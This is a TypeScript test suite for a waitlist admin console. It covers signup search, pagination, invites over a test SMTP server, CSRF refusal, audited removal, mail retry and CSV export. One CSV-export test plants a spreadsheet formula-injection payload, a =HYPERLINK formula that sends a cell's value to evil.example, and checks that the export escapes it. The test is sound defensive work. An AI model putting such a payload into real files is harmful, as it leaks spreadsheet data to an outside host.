// /admin/signups: search by address substring in any case, filter by state, both
// orders, keyset pages of 50; Invite through the same operation as the CLI (a real SMTP server,
// read back with mailparser), Remove behind a confirmation, each recorded in the audit log with a
// count and never the address.
import request from 'supertest';
import { startSmtpServer, type SmtpTestServer } from '../../../scripts/lib/launch/smtp';
import { createApp } from '../../../server/app';
import { openSqliteStore } from '../../../server/store';
import type { SqliteStore } from '../../../server/store/sqlite';
import { testConfig } from '../../support/config';
import {
  addOperator,
  getAs,
  logIn as logInOperator,
  postAs,
  type Session,
} from '../../support/console';
import { addInvited } from '../../support/stores';

let smtp: SmtpTestServer;
let store: SqliteStore;
let app: ReturnType<typeof createApp>;
let session: Session;
let time: number;

beforeAll(async () => {
  smtp = await startSmtpServer();
});
afterAll(() => smtp.close());
/** Logs in (again): a session ends after 12 hours, and a test may move the clock further. */
async function logIn() {
  session = await logInOperator(app);
}

beforeEach(async () => {
  smtp.received.length = 0;
  time = Date.parse('2026-10-01T00:00:00.000Z');
  const config = testConfig({ SITE_URL: 'https://orgnote.example', SMTP_URL: smtp.url });
  store = openSqliteStore(config, () => (time += 1_000));
  app = createApp(config, { store });
  await addOperator(store);
  await logIn();
});
afterEach(() => store.close());

const get = (path: string) => getAs(app, session, path);
const post = (path: string, fields: Record<string, string>) => postAs(app, session, path, fields);
/** The addresses a preview of "Invite the next N" lists, and the token of that list. */
const previewed = (html: string) => [...html.matchAll(/<li>([^<]+)<\/li>/g)].map((m) => m[1]);
const seen = (html: string) => /name="seen" value="([^"]+)"/.exec(html)![1];
/** To whom the SMTP server received the next `count` mails, sorted. */
const mailedTo = async (count: number) =>
  (await smtp.waitFor(count)).map((m) => (m.parsed.to as { text: string }).text).sort();
const addresses = (html: string) =>
  [...html.matchAll(/<tr><td data-label="Address">([^<]+@[^<]+)<\/td>/g)].map((m) => m[1]);

it('searches by a substring of the address in any case, filters by state, and sorts either way', async () => {
  for (const email of ['Anna@Example.org', 'bob@example.org', 'hannah@other.org'])
    await store.signups.add({ email, description: 'x' });
  const search = await get('/admin/signups?q=ANN');
  expect(search.status).toBe(200);
  expect(search.text).toMatch(
    /<input class="field-input" id="q" type="search" name="q" value="ANN"\/>/,
  );
  expect(addresses(search.text)).toEqual(['hannah@other.org', 'Anna@Example.org']);
  expect(addresses((await get('/admin/signups?q=ann&order=oldest')).text)).toEqual([
    'Anna@Example.org',
    'hannah@other.org',
  ]);
  // LIKE's wildcards are taken literally.
  expect(addresses((await get('/admin/signups?q=%25')).text)).toEqual([]);
  expect(addresses((await get('/admin/signups?state=invited')).text)).toEqual([]);
  expect(addresses((await get('/admin/signups?state=waitlisted')).text)).toHaveLength(3);
});

it('pages 50 at a time with keyset pagination, losing and repeating nothing', async () => {
  for (let i = 0; i < 120; i++)
    await store.signups.add({
      email: `user${String(i).padStart(3, '0')}@example.org`,
      description: '',
    });
  const seen: string[] = [];
  let path = '/admin/signups?order=oldest';
  for (let pageNo = 0; pageNo < 3; pageNo++) {
    const res = await get(path);
    seen.push(...addresses(res.text));
    const next = /href="(\/admin\/signups\?[^"]*after=[^"]+)"/.exec(res.text)?.[1];
    if (!next) break;
    path = next.replace(/&amp;/g, '&');
  }
  expect(seen).toHaveLength(120);
  expect(seen).toEqual([...seen].sort());
  expect(new Set(seen).size).toBe(120);
});

it('invites through the same operation as the CLI: a real mail with a key that activates, and an audit entry without the address', async () => {
  await store.signups.add({ email: 'zoe@example.org', description: '' });
  const page = await get('/admin/signups');
  expect(page.text).toContain('>Invite</button>');
  const res = await post('/admin/signups/invite', { email: 'zoe@example.org' });
  expect(res.status).toBe(200);
  expect(res.text).toContain('zoe@example.org: sent');
  const [mail] = await smtp.waitFor(1);
  const key = /^([A-Za-z0-9_-]{32})$/m.exec(mail.parsed.text ?? '')![1];
  expect(await store.subscriptions.activate('zoe@example.org', key)).toEqual({
    outcome: 'active',
    email: 'zoe@example.org',
  });
  expect((await get('/admin/signups')).text).toContain('>Invite again</button>');
  const [entry] = await store.audit.list({ limit: 1 });
  expect(entry).toMatchObject({ account: 'ops@example.org', action: 'invite', addresses: 1 });
  // Without the session's CSRF token: refused, nothing sent.
  const forged = await request(app)
    .post('/admin/signups/invite')
    .set('Cookie', session.cookie)
    .type('form')
    .send({ email: 'zoe@example.org', again: '1' });
  expect(forged.status).toBe(403);
  expect(smtp.received).toHaveLength(1);
});

it('removes only after the confirmation button, and the audit then names no address', async () => {
  await store.signups.add({ email: 'gone@example.org', description: '' });
  const list = await get('/admin/signups?q=gone');
  // The list's button posts: no address in a URL a proxy logs.
  expect(list.text).toMatch(
    /<form class="console-action" action="\/admin\/signups\/remove\/confirm" method="post"><input type="hidden" name="csrf" value="[^"]+"\/><input type="hidden" name="email" value="gone@example.org"\/>/,
  );
  expect(list.text).not.toContain('remove?email=');
  const confirm = await post('/admin/signups/remove/confirm', { email: 'gone@example.org' });
  expect(confirm.status).toBe(200);
  expect(confirm.text).toContain('Remove gone@example.org?');
  expect(await store.signups.count()).toBe(1);
  const res = await post('/admin/signups/remove', { email: 'gone@example.org' });
  expect(res.text).toContain('Removed gone@example.org');
  expect(await store.signups.count()).toBe(0);
  const audit = await store.audit.list({ limit: 10 });
  expect(audit[0]).toMatchObject({ action: 'remove', addresses: 1 });
  expect(JSON.stringify(audit)).not.toContain('gone@example.org');
});

it('lists dead mail with a Retry button that queues it again, as `waitlist mail retry` does', async () => {
  const mail = await addInvited(store, 'late@example.org');
  time += 8 * 24 * 3_600_000; // past QUEUE_MAX_AGE_HOURS: the next failure sets it aside as dead
  await store.mail.retry(mail, '421 busy');
  expect((await get('/admin/mail')).status).toBe(303); // 8 days later the session is long over
  await logIn();
  const listing = await get('/admin/mail');
  expect(listing.status).toBe(200);
  expect(listing.text).toMatch(
    /<td data-label="To">late@example\.org<\/td><td data-label="State"><span class="console-word">dead<\/span><\/td>/,
  );
  expect(listing.text).not.toContain(mail.message.text); // never the key
  const retried = await post('/admin/mail/retry', { id: String(mail.id) });
  expect(retried.status).toBe(200);
  expect(retried.text).toContain(`Item ${mail.id} is queued again`);
  expect(await store.mail.counts()).toMatchObject({ queued: 1, dead: 0 });
  expect((await post('/admin/mail/retry', { id: String(mail.id) })).status).toBe(409);
  expect((await post('/admin/outbox/retry', { id: 'x' })).status).toBe(409);
  expect((await get('/admin/outbox')).text).toContain('Nothing waiting.');
  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({
    action: 'retry mail',
    addresses: 1,
  });
});

it('"Invite the next N" shows who first, then invites exactly those through the CLI\'s operation', async () => {
  for (const email of ['first@example.org', 'second@example.org', 'third@example.org'])
    await store.signups.add({ email, description: '' });
  const preview = await get('/admin/signups/next?n=2');
  expect(preview.status).toBe(200);
  expect(previewed(preview.text)).toEqual(['first@example.org', 'second@example.org']);
  expect(smtp.received).toHaveLength(0);
  const res = await post('/admin/signups/next', { n: '2', seen: seen(preview.text) });
  expect(res.text).toContain('Invited 2');
  expect(await mailedTo(2)).toEqual(['first@example.org', 'second@example.org']);
  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({
    action: 'invite',
    addresses: 2,
  });
  expect((await get('/admin/signups/next?n=0')).status).toBe(400);
  expect((await post('/admin/signups/next', { n: 'lots' })).status).toBe(400);
});

it('"Invite the next N" invites nobody when the list changed after the preview, and shows the new one to approve', async () => {
  for (const email of ['first@example.org', 'second@example.org', 'third@example.org'])
    await store.signups.add({ email, description: '' });
  const preview = await get('/admin/signups/next?n=2');
  // Meanwhile the second leaves: the next two are now first and third.
  await post('/admin/signups/remove', { email: 'second@example.org' });
  const stale = await post('/admin/signups/next', { n: '2', seen: seen(preview.text) });
  expect(stale.status).toBe(409);
  expect(stale.text).toContain('The list changed since you looked at it; nobody was invited.');
  expect(previewed(stale.text)).toEqual(['first@example.org', 'third@example.org']);
  expect(await store.subscriptions.stateOf('third@example.org')).toBe('waitlisted');
  expect(await store.subscriptions.stateOf('first@example.org')).toBe('waitlisted');
  const approved = await post('/admin/signups/next', { n: '2', seen: seen(stale.text) });
  expect(approved.text).toContain('Invited 2');
  expect(await mailedTo(2)).toEqual(['first@example.org', 'third@example.org']);
});

it("exports the CLI's CSV as a download, and records how many rows went out", async () => {
  for (let i = 0; i < 3; i++)
    await store.signups.add({ email: `row${i}@example.org`, description: 'a, "quoted" note' });
  await store.signups.add({
    email: 'formula@example.org',
    description: '=HYPERLINK("https://evil.example/?"&A2,"ok")',
  });
  const res = await get('/admin/signups/export');
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toBe('attachment; filename="waitlist.csv"');
  const lines = res.text.split('\r\n');
  expect(lines[0]).toBe(
    '"email","description","created_at","invited_at","activated_at","confirmed_at","state","language","utm_source","utm_medium","utm_campaign","referrer"',
  );
  expect(lines.filter((line) => line.includes('"a, ""quoted"" note"'))).toHaveLength(3);
  // Opened in a spreadsheet, this description is text, not a formula.
  expect(lines.find((line) => line.startsWith('"formula@'))).toMatch(
    /^"formula@example\.org","'=HYPERLINK\(""https/,
  );
  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({
    action: 'export',
    addresses: 4,
  });
});
